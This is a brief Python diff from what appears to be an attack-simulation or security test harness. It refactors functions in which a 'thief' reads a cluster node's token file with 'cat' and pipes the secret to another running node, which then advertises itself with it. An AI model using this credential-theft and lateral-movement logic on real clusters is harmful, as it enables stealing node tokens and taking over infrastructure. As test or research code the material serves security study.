@@ -58,17 +58,18 @@ def _place(node: Node) -> str:
 
 def _look(target: Target) -> str:
     """Return the id of the node's token, and the node on which the thief is at work."""
-    token = own_token(target)
+    token, _ = own_token(target)
     others = [node for node in target.pool.reached_nodes if node.name != target.node.name]
     manager = manager_of(target.pool)
     seats = [node for node in others if node.is_running and node.name != manager.name]
-    return f"{token.id} {(seats or [manager])[0].name}"
+    return f"{token} {(seats or [manager])[0].name}"
 
 
 def _steal(target: Target, found: str) -> None:
     node = target.node
     seat = target.pool.node(found.split()[1])
-    secret = run(node, "cat", own_token(target).file or "")
+    _, file = own_token(target)
+    secret = run(node, "cat", file)
     run(seat, "sh", "-c", KEEP, "sh", _place(node), stdin=secret)
     advertised = _advertise(seat, node, node.role)
     if advertised.returncode != 0:
